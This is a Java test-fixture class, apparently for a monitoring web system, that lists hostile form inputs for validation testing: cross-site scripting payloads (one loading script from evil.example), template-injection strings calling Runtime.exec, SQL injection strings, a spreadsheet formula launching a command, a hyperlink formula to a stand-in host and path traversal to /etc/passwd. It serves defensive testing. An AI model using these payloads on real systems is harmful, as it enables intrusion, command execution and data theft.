package org.militancymonitor.system;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Hostile values for every form field: script in element, attribute and URL contexts, SQL
 * metacharacters, huge strings, control, bidirectional and zero-width characters,
 * impossible dates, out-of-range numbers and spreadsheet formulas, each also wrapped in
 * ordinary text and in other cases.
 */
final class HostileValues {

	private HostileValues() {
	}

	static final List<String> BASE = List.of("<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
			"<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'><iframe src=javascript:alert(1)>",
			"\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "javascript:alert(1)",
			"JaVaScRiPt:alert(document.cookie)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
			"vbscript:msgbox(1)", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
			"<!--<script>alert(1)//-->", "${7*7}", "#{7*7}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
			"__${T(java.lang.Runtime).getRuntime()}__::.x", "[[${7*7}]]", "[(${7*7})]", "{{7*7}}",
			"'; drop table incident; --", "\" or \"1\"=\"1", "' or '1'='1' --", "1; select pg_sleep(10)",
			"1) union select null, version() --", "\\", "\\'", "%", "_", "%_%", "$$; select 1; $$", "E'\\x00'",
			"\u0000", "before\u0000after", "\u0001\u0002\u0003", "\u007f", "\u202eevil\u202c", "\u202dtxt\u202c",
			"a\u200bb", "\u200d\u200c\ufeff", "\ufffd", "\ud83d\udca3 bomb", "Ω≈ç√∫", "漢字テスト", "پشتو", "عربي",
			"2023-02-30", "2023-13-01", "0000-00-00", "-0001-01-01", "+999999999-12-31", "31/12/2023", "yesterday",
			"-1", "-2147483648", "2147483647", "2147483648", "9223372036854775808", "1e309", "NaN", "Infinity", "-0",
			"0x1F", "1,000", "=1+1", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1,2)", "\t=1", "\r=1",
			"=HYPERLINK(\"http://evil.example\",\"x\")", "../../etc/passwd", "%2e%2e%2f", "%00", "%3Cscript%3E",
			"&lt;script&gt;", "&#60;script&#62;", "\n\n\n", "   ", "", " leading and trailing ", "x".repeat(1_000_001),
			"<b>".repeat(10_000), "null", "undefined", "true", "[object Object]", "{\"id\":1}", "id=1&version=0",
			"DRAFT", "PUBLISHED", "TTP", "ttp");

	/** The base values, each also inside ordinary text, upper-cased and doubled. */
	static List<String> all() {
		Set<String> values = new LinkedHashSet<>(BASE);
		for (String value : BASE) {
			if (value.length() < 1000) {
				values.add("An attack " + value + " near Bannu");
				values.add(value.toUpperCase(java.util.Locale.ROOT));
				values.add(value + value);
			}
		}
		return new ArrayList<>(values);
	}

	/** Whether a value is markup that must never appear unescaped in a page. */
	static boolean isMarkup(String value) {
		return value.contains("<") && value.contains(">");
	}

}
